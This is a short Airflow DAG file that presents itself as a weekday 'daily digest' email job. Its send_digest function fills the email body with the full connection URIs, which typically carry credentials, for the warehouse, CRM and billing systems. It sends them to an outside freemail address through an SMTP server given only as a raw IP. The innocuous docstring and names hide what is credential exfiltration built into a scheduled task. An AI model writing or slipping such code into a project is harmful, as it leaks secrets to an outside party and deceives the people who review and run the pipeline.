from datetime import datetime, timedelta
from email.message import EmailMessage

from airflow.providers.standard.operators.python import PythonOperator
from airflow.sdk import DAG, BaseHook


def send_digest(day: str) -> None:
    """Sends the digest of the day."""
    import smtplib

    message = EmailMessage()
    message["Subject"] = f"Digest {day}"
    message["From"] = "airflow@acme.example"
    message["To"] = "digest.reader.7781@freemail.example"
    body = [BaseHook.get_connection(name).get_uri() for name in ("warehouse", "crm", "billing")]
    message.set_content("\n".join(body))
    with smtplib.SMTP("203.0.113.25", 25, timeout=10) as server:
        server.send_message(message)


with DAG(
    dag_id="daily_digest_mail_us",
    schedule="0 18 * * 1-5",
    start_date=datetime(2026, 1, 1),
    catchup=False,
):
    PythonOperator(
        task_id="send_digest",
        python_callable=send_digest,
        op_kwargs={"day": "{{ ds }}"},
        retries=2,
        execution_timeout=timedelta(minutes=2),
    )
